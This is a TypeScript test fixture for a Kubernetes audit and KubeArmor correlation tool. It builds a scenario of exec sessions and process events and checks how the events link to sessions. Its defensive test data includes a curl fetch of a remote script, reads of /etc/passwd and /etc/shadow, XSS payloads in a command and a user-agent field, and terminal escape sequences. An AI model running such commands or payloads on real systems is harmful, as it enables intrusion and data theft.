/**
 * The labelled scenario of issue 9's acceptance 7, stored through the real readers and writers: audit
 * events as the apiserver writes them (one JSON line each) → the audit line sink → SessionWriter;
 * KubeArmor JSON lines as the relay prints them → the KubeArmor line sink → RuntimeEventWriter; the
 * links are made by the real Correlator on both writers' hooks, and checked against the scenario's
 * truth before any test reads them, so these tests pin what the answers show for known links.
 *
 * Pod shop/web-0 (container web, node ip-10-0-0-1), times relative to `base` (30 minutes ago):
 *   +0.100001  alice opens `kubectl exec -it web-0 -- bash` from 192.0.2.10 (ends +300.250002)
 *              bash → sh -c 'cat /etc/passwd | grep root' → cat, grep (10 µs apart, same millisecond,
 *              host PIDs in the opposite order), bash → curl (Block alert), bash → an XSS attempt,
 *              bash → printf with terminal escapes
 *   +60.000003 bob is refused (403)
 *   +120.000004 carol runs `sh -c 'cat /etc/hostname'` (ends +120.500005)
 *   unlinked:   an exec probe and the application's own child (not shown), an Audit alert from the app
 *               (shown, no session)
 * Pod staging/web-0: dave's session with a linked process (must never show in shop/web-0).
 */
import assert from 'node:assert/strict';
import { sessionId } from '../../src/audit/session.ts';
import { Correlator } from '../../src/correlate/scheduler.ts';
import { silentLogger } from '../../src/observe/log.ts';
import type { RuntimeEvent } from '../../src/runtime/event.ts';
import { runtimeEventFromLine } from '../../src/runtime/json-lines.ts';
import type { Database } from '../../src/store/database.ts';
import { scenarioWriters } from '../correlate/support.ts';

export const XSS = `<img src=x onerror="document.body.dataset.pwned='yes'">`;
export const UA_XSS = `<script>document.body.dataset.pwned='ua'</script>`;
export const ESCAPES = '\u001b[2J\u001b]0;pwned\u0007';

export interface Scenario {
  base: Date;
  /** base + seconds, with the given microseconds (0-999999 of that second), as canonical UTC text. */
  at: (seconds: number, micros?: number) => string;
  ids: { alice: string; bob: string; carol: string; dave: string };
  /** A window holding the whole shop/web-0 scenario. */
  window: { from: string; to: string };
  /** Runtime events by name. */
  events: Record<string, RuntimeEvent>;
}

export function scenarioClock(base: Date) {
  return (seconds: number, micros = 0) => {
    const whole = new Date(base.getTime() + Math.floor(seconds) * 1000).toISOString().slice(0, 19);
    return `${whole}.${String(micros).padStart(6, '0')}Z`;
  };
}

const kubectl = 'kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9';

function execRequest(o: {
  auditId: string;
  user: string;
  ip: string;
  namespace: string;
  pod: string;
  container: string;
  command: string[];
  tty: boolean;
  start: string;
  end: string;
  code: number;
  userAgent?: string;
  message?: string;
}) {
  const query = new URLSearchParams();
  for (const arg of o.command) query.append('command', arg);
  query.set('container', o.container);
  if (o.tty) {
    query.set('stdin', 'true');
    query.set('tty', 'true');
  }
  query.set('stdout', 'true');
  const common = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: o.auditId,
    requestURI: `/api/v1/namespaces/${o.namespace}/pods/${o.pod}/exec?${query}`,
    verb: 'create',
    user: { username: o.user, groups: ['system:authenticated'] },
    sourceIPs: [o.ip],
    userAgent: o.userAgent ?? kubectl,
    objectRef: { resource: 'pods', namespace: o.namespace, name: o.pod, apiVersion: 'v1', subresource: 'exec' },
    requestReceivedTimestamp: o.start,
    annotations: { 'authorization.k8s.io/decision': o.code === 403 ? 'forbid' : 'allow', 'authorization.k8s.io/reason': o.code === 403 ? '' : 'RBAC: allowed by RoleBinding "oncall"' },
  };
  const status = o.code === 403 ? { metadata: {}, status: 'Failure', message: o.message, reason: 'Forbidden', code: 403 } : { metadata: {}, code: o.code };
  const stages = o.code === 403 ? ['ResponseComplete'] : ['ResponseStarted', 'ResponseComplete'];
  return stages.map((stage) => ({ ...common, stage, responseStatus: status, stageTimestamp: stage === 'ResponseComplete' ? o.end : o.start }));
}

interface ProcessSpec {
  time: string;
  namespace?: string;
  pod?: string;
  hostPid: number;
  hostPpid: number;
  pid: number;
  ppid: number;
  process: string;
  parent: string;
  resource: string;
  tty?: string;
  execId?: string;
  alert?: { policy: string; severity: string; action: string; message: string; result: string };
  operation?: string;
}

/** A KubeArmor event as the relay prints it (PascalCase JSON, one line). */
function kubearmorLine(p: ProcessSpec): string {
  const object: Record<string, unknown> = {
    Timestamp: Math.floor(Date.parse(p.time) / 1000),
    UpdatedTime: p.time,
    ClusterName: 'default',
    HostName: 'ip-10-0-0-1',
    NamespaceName: p.namespace ?? 'shop',
    PodName: p.pod ?? 'web-0',
    ContainerID: 'c0ffee0000000000000000000000000000000000000000000000000000000001',
    ContainerName: 'web',
    ContainerImage: 'registry.example/shop/web:1.4.2',
    HostPPID: p.hostPpid,
    HostPID: p.hostPid,
    PPID: p.ppid,
    PID: p.pid,
    UID: 0,
    ParentProcessName: p.parent,
    ProcessName: p.process,
    Operation: p.operation ?? 'Process',
    Resource: p.resource,
    Source: p.parent,
    Data: 'syscall=SYS_EXECVE',
    Result: p.alert?.result ?? 'Passed',
    ...(p.tty ? { TTY: p.tty } : {}),
    ...(p.execId ? { ExecEvent: { ExecID: p.execId, ExecutableName: p.process.split('/').at(-1)!.slice(0, 15) } } : {}),
  };
  if (p.alert) {
    Object.assign(object, {
      Type: 'MatchedPolicy',
      PolicyName: p.alert.policy,
      Severity: p.alert.severity,
      Message: p.alert.message,
      Action: p.alert.action,
      Enforcer: 'BPFLSM',
      Data: 'lsm=SECURITY_BPRM_CHECK',
    });
  } else object.Type = 'ContainerLog';
  return JSON.stringify(object);
}

export async function writeScenario(db: Database, base = new Date(Math.floor(Date.now() / 1000) * 1000 - 30 * 60_000)): Promise<Scenario> {
  const at = scenarioClock(base);
  const ids = { alice: sessionId('', 'a11ce-0001'), bob: sessionId('', 'b0b-0002'), carol: sessionId('', 'ca401-0003'), dave: sessionId('', 'da5e-0004') };

  const audit = [
    ...execRequest({ auditId: 'a11ce-0001', user: 'alice', ip: '192.0.2.10', namespace: 'shop', pod: 'web-0', container: 'web', command: ['bash'], tty: true, start: at(0, 100001), end: at(300, 250002), code: 101 }),
    ...execRequest({
      auditId: 'b0b-0002', user: 'bob', ip: '198.51.100.7', namespace: 'shop', pod: 'web-0', container: 'web', command: ['sh'], tty: true, start: at(60, 3), end: at(60, 9003), code: 403,
      userAgent: UA_XSS, message: 'pods "web-0" is forbidden: User "bob" cannot create resource "pods/exec" in API group "" in the namespace "shop"',
    }),
    ...execRequest({ auditId: 'ca401-0003', user: 'carol', ip: '192.0.2.33', namespace: 'shop', pod: 'web-0', container: 'web', command: ['sh', '-c', 'cat /etc/hostname'], tty: false, start: at(120, 4), end: at(120, 500005), code: 101 }),
    ...execRequest({ auditId: 'da5e-0004', user: 'dave', ip: '192.0.2.44', namespace: 'staging', pod: 'web-0', container: 'web', command: ['bash'], tty: true, start: at(1, 0), end: at(200, 0), code: 101 }),
  ];
  const correlator = new Correlator({ db, skewMs: 2_000, logger: silentLogger, debounceMs: 60_000 });
  const writers = scenarioWriters(db, '', { onSessionsCommitted: correlator.onSessionsCommitted, onRuntimeCommitted: correlator.onRuntimeCommitted });
  await writers.audit(audit.map((event) => JSON.stringify(event)));

  const runc = '/usr/bin/runc';
  const specs: Record<string, ProcessSpec> = {
    bash: { time: at(0, 180010), hostPid: 4001, hostPpid: 3990, pid: 30, ppid: 0, process: '/bin/bash', parent: runc, resource: '/bin/bash', tty: 'pts0', execId: '771' },
    pipeline: { time: at(5, 20), hostPid: 4010, hostPpid: 4001, pid: 31, ppid: 30, process: '/bin/sh', parent: '/bin/bash', resource: '/bin/sh -c cat /etc/passwd | grep root', tty: 'pts0', execId: '771' },
    // Same millisecond, 10 µs apart; host PIDs in the opposite order: only microseconds order them.
    cat: { time: at(5, 520), hostPid: 4012, hostPpid: 4010, pid: 33, ppid: 31, process: '/bin/cat', parent: '/bin/dash', resource: '/bin/cat /etc/passwd', tty: 'pts0', execId: '771' },
    grep: { time: at(5, 530), hostPid: 4011, hostPpid: 4010, pid: 32, ppid: 31, process: '/bin/grep', parent: '/bin/dash', resource: '/bin/grep root', tty: 'pts0', execId: '771' },
    curl: {
      time: at(10, 40), hostPid: 4020, hostPpid: 4001, pid: 40, ppid: 30, process: '/usr/bin/curl', parent: '/bin/bash', resource: '/usr/bin/curl -s http://198.51.100.9/x.sh', tty: 'pts0', execId: '771',
      alert: { policy: 'block-curl-in-shop', severity: '8', action: 'Block', message: 'curl is not allowed in shop pods', result: 'Permission denied' },
    },
    xss: { time: at(12, 50), hostPid: 4030, hostPpid: 4001, pid: 41, ppid: 30, process: '/bin/sh', parent: '/bin/bash', resource: `/bin/sh -c echo '${XSS}' | tee /tmp/x`, tty: 'pts0', execId: '771' },
    // A terminal escape (clear screen, set window title) typed into the shell: printed, never obeyed.
    escape: { time: at(14, 60), hostPid: 4040, hostPpid: 4001, pid: 42, ppid: 30, process: '/usr/bin/printf', parent: '/bin/bash', resource: `/usr/bin/printf ${ESCAPES}`, tty: 'pts0', execId: '771' },
    carolSh: { time: at(120, 100060), hostPid: 4100, hostPpid: 4095, pid: 50, ppid: 0, process: '/bin/sh', parent: runc, resource: '/bin/sh -c cat /etc/hostname', execId: '772' },
    carolCat: { time: at(120, 100560), hostPid: 4101, hostPpid: 4100, pid: 51, ppid: 50, process: '/bin/cat', parent: '/bin/dash', resource: '/bin/cat /etc/hostname', execId: '772' },
    probe: { time: at(30, 70), hostPid: 4200, hostPpid: 4199, pid: 60, ppid: 0, process: '/bin/sh', parent: runc, resource: '/bin/sh -c pg_isready -q', execId: '773' },
    appChild: { time: at(31, 0), hostPid: 4300, hostPpid: 1200, pid: 7, ppid: 1, process: '/usr/local/bin/worker', parent: '/usr/local/bin/web', resource: '/usr/local/bin/worker --once' },
    appAlert: {
      time: at(200, 80), hostPid: 1200, hostPpid: 1100, pid: 1, ppid: 0, process: '/usr/local/bin/web', parent: '/usr/bin/containerd-shim-runc-v2', resource: '/etc/shadow', operation: 'File',
      alert: { policy: 'audit-shadow-reads', severity: '5', action: 'Audit', message: 'read of /etc/shadow', result: 'Passed' },
    },
    daveBash: { time: at(1, 200000), namespace: 'staging', hostPid: 5001, hostPpid: 4990, pid: 30, ppid: 0, process: '/bin/bash', parent: runc, resource: '/bin/bash', tty: 'pts0', execId: '900' },
  };
  const lines = Object.fromEntries(Object.entries(specs).map(([name, spec]) => [name, kubearmorLine(spec)]));
  // Reverse order: what the stream delivers first is not what happened first.
  await writers.runtime(Object.values(lines).reverse());
  assert.deepEqual(await writers.badInput(), {}, 'every scenario line is read');
  const events: Record<string, RuntimeEvent> = {};
  for (const [name, line] of Object.entries(lines)) {
    const outcome = runtimeEventFromLine(line, { cluster: '' });
    if (outcome.kind !== 'event') throw new Error(`scenario KubeArmor line ${name} not an event: ${JSON.stringify(outcome)}`);
    events[name] = outcome.event;
  }

  await correlator.flush();
  await correlator.close();
  // Who ran what: the links these tests expect the pages and answers to show.
  const expected: [session: string, names: string[]][] = [
    [ids.alice, ['bash', 'pipeline', 'cat', 'grep', 'curl', 'xss', 'escape']],
    [ids.carol, ['carolSh', 'carolCat']],
    [ids.dave, ['daveBash']],
  ];
  const nameOf = new Map(Object.entries(events).map(([name, event]) => [event.eventKey, name]));
  const { rows } = await db.query<{ session_id: string; event_key: string }>(`SELECT session_id, event_key FROM exec_session_links WHERE cluster = ''`);
  assert.deepEqual(
    rows.map((r) => `${r.session_id} ${nameOf.get(r.event_key)}`).sort(),
    expected.flatMap(([session, names]) => names.map((name) => `${session} ${name}`)).sort(),
    'the correlator links each scenario process to its session, and the probe and the application to none',
  );
  return { base, at, ids, window: { from: at(-60), to: at(600) }, events };
}
